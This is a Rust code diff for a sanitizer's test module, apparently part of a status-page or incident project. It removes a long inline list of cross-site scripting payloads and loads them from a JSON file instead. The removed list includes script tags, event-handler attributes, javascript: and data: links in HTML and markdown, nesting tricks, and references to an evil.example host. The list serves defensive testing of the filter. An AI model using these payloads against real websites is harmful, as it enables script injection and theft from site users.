@@ -1,5 +1,6 @@
 //! Nothing that anybody writes anywhere is more than words, emphasis, lists, and links of three schemes.
 
+use std::sync::LazyLock;
 use std::time::{Duration, Instant};
 
 use dom_query::Document;
@@ -9,103 +10,10 @@ use incident::value::Occasion;
 use page::{STYLE, Text, Update};
 use proptest::prelude::*;
 
-/// Scripts, handlers, addresses and elements in the ways in which people try to get them past a filter.
-pub(crate) const TRIES: &[&str] = &[
-    "<script>steal()</script>",
-    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
-    "<scr<script>ipt>steal()</scr</script>ipt>",
-    "<script\n>steal()</script\n>",
-    "<script/steal src=data:,steal()>",
-    "</title><script>steal()</script>",
-    "</style><script>steal()</script>",
-    "--><script>steal()</script><!--",
-    "<![CDATA[<script>steal()</script>]]>",
-    "<?xml version='1.0'?><script>steal()</script>",
-    "<!doctype html><script>steal()</script>",
-    "<img src=x onerror=steal()>",
-    "<img/src='x'/onerror='steal()'>",
-    "<img src=x onerror\n=\nsteal()>",
-    "<img \"\"\"><script>steal()</script>\">",
-    "<body onload=steal()>",
-    "<p onclick=steal()>press</p>",
-    "<a href=x onmouseover=steal()>here</a>",
-    "\" onmouseover=\"steal()\" x=\"",
-    "' autofocus onfocus='steal()",
-    "<input autofocus onfocus=steal()>",
-    "<details open ontoggle=steal()>x</details>",
-    "<video><source onerror=steal()></video>",
-    "<audio src=x onerror=steal()>",
-    "<marquee onstart=steal()>x</marquee>",
-    "<svg onload=steal()>",
-    "<svg><script>steal()</script></svg>",
-    "<svg><animate onbegin=steal() attributeName=x></svg>",
-    "<svg><style><img src=x onerror=steal()></style></svg>",
-    "<svg><use href='data:image/svg+xml,<svg id=a onload=steal()>#a'/></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
-    "<math href='javascript:steal()'>press</math>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
-    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
-    "<textarea></textarea><img src=x onerror=steal()>",
-    "<title><img src=x onerror=steal()></title>",
-    "<xmp><img src=x onerror=steal()></xmp>",
-    "<plaintext><img src=x onerror=steal()>",
-    "<template><script>steal()</script></template>",
-    "<iframe src='javascript:steal()'></iframe>",
-    "<iframe srcdoc='<script>parent.steal()</script>'></iframe>",
-    "<object data='javascript:steal()'></object>",
-    "<embed src='javascript:steal()'>",
-    "<base href='javascript:steal()//'>",
-    "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
-    "<link rel=stylesheet href='https://evil.example/a.css'>",
-    "<style>@import 'https://evil.example/a.css'</style>",
-    "<div style='background:url(javascript:steal())'>x</div>",
-    "<form action='https://evil.example'><button>press</button></form>",
-    "<button formaction='javascript:steal()'>press</button>",
-    "<a href='javascript:steal()'>press</a>",
-    "[press](javascript:steal())",
-    "[press](JaVaScRiPt:steal())",
-    "[press](java\tscript:steal())",
-    "[press](<java\nscript:steal()>)",
-    "[press](&#106;avascript:steal())",
-    "[press](&#x6A&#x61vascript:steal())",
-    "[press](javascript&colon;steal())",
-    "[press](\\javascript:steal())",
-    "[press](vbscript:steal())",
-    "[press](data:text/html,<script>steal()</script>)",
-    "[press](file:///etc/passwd)",
-    "[press](blob:https://evil.example/x)",
-    "[press](//evil.example)",
-    "[press](\u{1}javascript:steal())",
-    "[press](https://a.example/\"onmouseover=\"steal())",
-    "[press](https://a.example '\"><script>steal()</script>')",
-    "[press][1]\n\n[1]: javascript:steal()",
-    "<javascript:steal()>",
-    "<https://a.example/\"><script>steal()</script>>",
-    "![x](javascript:steal())",
-    "![x](https://a.example/a.png\" onerror=\"steal())",
-    "![<script>steal()</script>](https://a.example/a.png)",
-    "[![x](javascript:steal())](javascript:steal())",
-    "[<img src=x onerror=steal()>](https://a.example)",
-    "`<script>steal()</script>`",
-    "```html\n<script>steal()</script>\n```",
-    "~~~\" onmouseover=\"steal()\n~~~",
-    "    <script>steal()</script>",
-    "**<script>steal()</script>**",
-    "> <script>steal()</script>",
-    "1. <img src=x onerror=steal()>",
-    "# <script>steal()</script>",
-    "| a |\n|---|\n| <script>steal()</script> |",
-    "&lt;script&gt;steal()&lt;/script&gt;",
-    "&#60;script&#62;steal()&#60;/script&#62;",
-    "\\<script>steal()\\</script>",
-    "<a\u{0}href=javascript:steal()>press</a>",
-    "<\u{feff}script>steal()</script>",
-    "＜script＞steal()＜/script＞",
-    "\u{202e}>tpircs<",
-    "javascript:steal()",
-    "www.example.org\"onmouseover=\"steal()",
-    "mailto:a@example.org?body=<script>steal()</script>",
-];
+/// Scripts, handlers, addresses and elements in the ways in which people try to get them past a filter. The journeys put
+/// them before a real browser.
+pub(crate) static TRIES: LazyLock<Vec<String>> =
+    LazyLock::new(|| serde_json::from_str(include_str!("../tries.json")).unwrap());
 
 /// What may stand in a page, with its attributes.
 const KNOWN: &[(&str, &[&str])] = &[
@@ -236,8 +144,8 @@ fn the_watch_sees_what_should_not_be_there() {
 #[test]
 fn no_try_in_any_field_is_more_than_words() {
     assert!(TRIES.len() >= 60);
-    for try_ in TRIES {
-        let services = [(*try_).to_owned(), format!("Checkout {try_}")];
+    for try_ in TRIES.iter() {
+        let services = [try_.clone(), format!("Checkout {try_}")];
         for (field, page) in [
             ("body", page("Ardent", "Payments fail", &[], try_)),
             ("in a body", page("Ardent", "Payments fail", &[], &format!("Before {try_} after\n\n{try_}"))),
